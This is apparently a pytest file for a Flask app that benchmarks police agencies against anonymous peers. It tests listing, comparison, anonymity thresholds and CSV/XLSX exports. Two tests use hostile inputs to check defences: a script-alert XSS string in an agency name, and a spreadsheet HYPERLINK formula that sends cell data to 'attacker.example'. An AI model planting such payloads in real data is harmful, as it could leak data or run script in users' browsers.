"""Consultant pages (agencies, agency, compare, benchmark) and the lead's own benchmark page."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from assessment.domain.rules.benchmark import PeerGroup
from assessment.presentation.labels import points
from assessment.services import assessments, benchmarking, export
from assessment.services.rounds import set_round_open
from assessment.store.models import Agency, User
from tests.web.helpers import login
from tests.web.peer_world import PEERS, Peers


def page_text(html: str) -> str:
    """The visible text of a page, without SVG, tags and repeated spaces."""
    text = re.sub(r"<svg.*?</svg>", " ", html, flags=re.S)
    text = re.sub(r"<[^>]+>", " ", text)
    return re.sub(r"\s+", " ", text)


def get(client: FlaskClient, user: User, url: str) -> tuple[int, str]:
    """Status and HTML of a GET as `user`."""
    login(client, user)
    response = client.get(url)
    return response.status_code, response.get_data(as_text=True)


def test_agencies_list_shows_latest_figures_and_change(client: FlaskClient, peers: Peers) -> None:
    status, html = get(client, peers.consultant, "/consultant/agencies")

    assert status == 200
    text = page_text(html)
    for name in [*peers.names(), "Newcomer Police"]:
        assert name in text
    # profiles in words (the newest questionnaire's, else an earlier one's), whole points
    canal = re.search(
        r"Canal Police Netherlands · Regional or state force · 250 to 999 staff none "
        r"Round 2025: index (\d+) Floor: level (\d) · \w+ ([+-]\d+)",
        text,
    )
    assert canal is not None, text
    assert float(canal.group(3)) > 0
    assert (
        "Newcomer Police Germany · Local or municipal police · 250 to 999 staff none none submitted"
        in text
    )


def test_agencies_list_filters_and_sorts(client: FlaskClient, peers: Peers) -> None:
    _, html = get(client, peers.consultant, "/consultant/agencies?country=BE&sort=score&order=desc")

    text = page_text(html)
    order = [text.index(name) for name in ("Meuse Police", "Scheldt Police", "Ardennes Police")]
    assert order == sorted(order)
    assert "Harbour Police" not in text
    assert "3 agencies" in text


def test_agencies_list_refuses_an_unknown_sort_key_with_a_message(
    client: FlaskClient, peers: Peers
) -> None:
    status, html = get(client, peers.consultant, "/consultant/agencies?sort=password")

    assert status == 400
    assert "There is a problem" in html
    assert "Not a valid choice" in html


def test_agency_page_shows_rounds_trend_results_and_peer_position(
    app: Flask, client: FlaskClient, peers: Peers
) -> None:
    canal = peers.agencies["Canal Police"]
    status, html = get(client, peers.consultant, f"/consultant/agencies/{canal.id}")

    assert status == 200
    text = page_text(html)
    assert "Rounds Round Questionnaire Status Submitted Answers 2024" in text
    assert "Dimension scores over rounds" in html  # the trend chart
    for title in ("Policy", "Staffing", "Training", "Budget", "Legal framework", "Protocols"):
        assert title in text
    assert "Percentile rank vs all agencies (n = 7)" in text
    assert "Percentile rank vs same type (Regional or state force) (n = 7)" in text
    # the most mature of seven: six below it, itself counting half
    assert re.search(r"Overall (\d+) ", text.split("Peer position")[1]).group(1) == "93"  # type: ignore[union-attr]
    has_reports = "reports.agency_pdf" in app.view_functions
    assert ("Download the PDF report" in text) == has_reports


def test_an_unknown_agency_is_a_404(client: FlaskClient, peers: Peers) -> None:
    status, _ = get(client, peers.consultant, "/consultant/agencies/999999")

    assert status == 404


def test_compare_sets_agencies_side_by_side(client: FlaskClient, peers: Peers) -> None:
    ids = [peers.agencies[name].id for name in ("Harbour Police", "Meuse Police")]
    query = "&".join(f"agency={i}" for i in ids)

    status, html = get(
        client, peers.consultant, f"/consultant/compare?round={peers.latest.id}&{query}"
    )

    assert status == 200
    table = page_text(html).split("Score and level per figure")[1]
    assert table.index("Harbour Police") < table.index("Meuse Police")
    assert re.search(r"Overall [\d.]+ \(level \d\) [\d.]+ \(level \d\)", table)


def test_compare_refuses_more_than_six_agencies(client: FlaskClient, peers: Peers) -> None:
    query = "&".join(f"agency={agency.id}" for agency in peers.agencies.values())

    status, html = get(client, peers.consultant, f"/consultant/compare?{query}")

    assert status == 400
    assert "Choose at most 6 agencies to compare; 7 are chosen." in html
    assert "Score and level per figure" not in html


def test_benchmark_page_shows_statistics_and_levels(
    client: FlaskClient, session: Session, peers: Peers
) -> None:
    status, html = get(client, peers.consultant, "/consultant/benchmark")

    assert status == 200
    text = page_text(html)
    stats = benchmarking.round_statistics(session, round_id=peers.latest.id, group=PeerGroup(), k=5)
    overall = stats.cell("overall", "overall")
    assert overall is not None and overall.summary is not None
    # seven agencies: the median alone (quartiles from 2K = 10), no minimum or maximum
    assert f"Overall 7 — {points(overall.summary.median)} —" in text  # whole points
    assert "Round 2025: All agencies" in text
    assert "7 agencies with a submitted assessment" in text
    assert "no minimum, maximum or mean is ever shown" in text
    assert html.count("<svg") >= 6  # a bar per figure


def test_benchmark_page_shows_medians_over_rounds(client: FlaskClient, peers: Peers) -> None:
    _, html = get(client, peers.consultant, "/consultant/benchmark")

    history = page_text(html).split("Medians over rounds: All agencies")[1]
    assert "Group medians over rounds" in html
    # 2024 holds one agency: withheld; 2025 holds seven
    assert re.search(r"2024 withheld withheld", history)
    assert re.search(r"2025 [\d.]+ [\d.]+", history)


def test_benchmark_page_explains_withheld_figures(client: FlaskClient, peers: Peers) -> None:
    _, html = get(client, peers.consultant, "/consultant/benchmark?country=BE")

    text = page_text(html)
    assert "Fewer than 5 agencies with a submitted assessment" in text
    assert "Overall — Not enough peers (n &lt; 5)" in text


def test_benchmark_page_explains_a_refused_group(client: FlaskClient, peers: Peers) -> None:
    # NL holds 4 of 7: withheld; with K = 3 it is shown, but all agencies less NL is 3
    status, html = get(
        client, peers.consultant, "/consultant/benchmark?agency_type=regional&country=NL"
    )

    assert status == 200
    assert "This group cannot be shown" not in html  # too small: withheld, not refused
    client.application.config["ANONYMITY_K"] = 4
    _, html = get(client, peers.consultant, "/consultant/benchmark?country=NL")
    assert "This group cannot be shown" in html
    assert "would single out fewer than 4 agencies" in page_text(html)


def test_benchmark_page_refuses_bad_filters_with_a_message(
    client: FlaskClient, peers: Peers
) -> None:
    status, html = get(client, peers.consultant, "/consultant/benchmark?round=abc&size_band=huge")

    assert status == 400
    assert "There is a problem" in html


def test_lead_sees_only_their_own_agency_against_anonymous_peers(
    client: FlaskClient, peers: Peers
) -> None:
    status, html = get(client, peers.lead, "/my/benchmark")

    assert status == 200
    assert "Canal Police" in html
    for name in peers.names():
        if name != "Canal Police":
            assert name not in html, f"{name} leaked to another agency's lead"
    text = page_text(html)
    assert "Against all agencies (n = 7)" in text
    assert re.search(r"Overall [\d.]+ [\d.]+ — 93 ", text)  # 7 agencies: no middle half
    assert "Our agency" in html  # marker on the quartile bars


def test_lead_without_a_submission_is_told_when_the_benchmark_appears(
    client: FlaskClient, peers: Peers
) -> None:
    status, html = get(client, peers.newcomer_lead, "/my/benchmark")

    assert status == 200
    assert "appears once your agency has submitted" in html
    for name in peers.names():
        assert name not in html


def test_agency_names_are_escaped(
    client: FlaskClient, peers: Peers, create_agency: Callable[..., Agency]
) -> None:
    create_agency(name="<script>alert(1)</script> Police")

    _, html = get(client, peers.consultant, "/consultant/agencies")

    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Police" in html


def test_round_export_as_csv_uses_the_export_rows(
    client: FlaskClient, session: Session, peers: Peers
) -> None:
    status, body = get(client, peers.consultant, f"/consultant/rounds/{peers.latest.id}/export.csv")

    assert status == 200
    expected = io.StringIO()
    export.write_csv(export.round_export(session, peers.latest.id), expected)
    assert body == expected.getvalue()
    header = body.splitlines()[0].split(",")
    assert header[:8] == [*export.BASE_COLUMNS]
    assert "policy_score" in header
    assert len(body.splitlines()) == 1 + len(PEERS)


def test_round_export_as_xlsx_holds_the_same_table(
    client: FlaskClient, session: Session, peers: Peers
) -> None:
    login(client, peers.consultant)
    response = client.get(f"/consultant/rounds/{peers.latest.id}/export.xlsx")

    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="round-2025.xlsx"'
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["results 2025", "answers 2025", "Columns"]
    sheet = book["results 2025"]
    rows = list(sheet.iter_rows(values_only=True))
    table = export.round_export(session, peers.latest.id)
    assert rows[0] == table.columns
    assert [row[0] for row in rows[1:]] == [row["agency"] for row in table.rows]
    assert rows[1] == tuple(table.rows[0][column] for column in table.columns)


def test_exporting_an_unknown_round_is_a_404(client: FlaskClient, peers: Peers) -> None:
    status, _ = get(client, peers.consultant, "/consultant/rounds/99999/export.csv")

    assert status == 404


def test_benchmark_page_links_the_exports(client: FlaskClient, peers: Peers) -> None:
    _, html = get(client, peers.consultant, "/consultant/benchmark")

    assert f"/consultant/rounds/{peers.latest.id}/export.csv" in html
    assert f"/consultant/rounds/{peers.latest.id}/export.xlsx" in html


def test_exports_from_a_filtered_page_hold_that_group_only(
    client: FlaskClient, peers: Peers
) -> None:
    _, html = get(client, peers.consultant, "/consultant/benchmark?country=BE")
    links = re.findall(r'href="(/consultant/rounds/[^"]+)"', html)
    assert links and all("country=BE" in link for link in links)
    answers_link = next(
        link for link in links if "table=answers" in link and "comments" not in link
    )

    body = client.get(answers_link.replace("&amp;", "&")).get_data(True)
    rows = list(csv.DictReader(io.StringIO(body)))
    belgian = {name for name, country, _ in PEERS if country == "BE"}
    assert rows and {row["agency"] for row in rows} == belgian
    assert "comment" not in rows[0] and {row["country"] for row in rows} == {"BE"}


def test_an_export_with_a_wrong_filter_is_refused_naming_it(
    client: FlaskClient, peers: Peers
) -> None:
    status, body = get(
        client, peers.consultant, f"/consultant/rounds/{peers.latest.id}/export.csv?country=ZZ"
    )
    assert status == 400
    assert "country" in body and "Not a valid choice" in body


def test_round_downloads_hold_no_live_formula(
    client: FlaskClient, session: Session, peers: Peers, create_agency: Callable[..., Agency]
) -> None:
    name = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'
    agency = create_agency(name=name)
    # The peer rounds are closed once seeded; a draft needs the round open for a moment.
    set_round_open(session, round_id=peers.latest.id, is_open=True, actor=None)
    assessments.start_assessment(session, agency_id=agency.id, round_id=peers.latest.id, actor=None)
    set_round_open(session, round_id=peers.latest.id, is_open=False, actor=None)
    login(client, peers.consultant)

    csv_body = client.get(f"/consultant/rounds/{peers.latest.id}/export.csv").get_data(True)
    xlsx_body = client.get(f"/consultant/rounds/{peers.latest.id}/export.xlsx").data

    csv_cells = [cell for row in csv.reader(io.StringIO(csv_body)) for cell in row]
    assert f"'{name}" in csv_cells and name not in csv_cells
    sheet = load_workbook(io.BytesIO(xlsx_body)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert f"'{name}" in [cell.value for cell in cells]
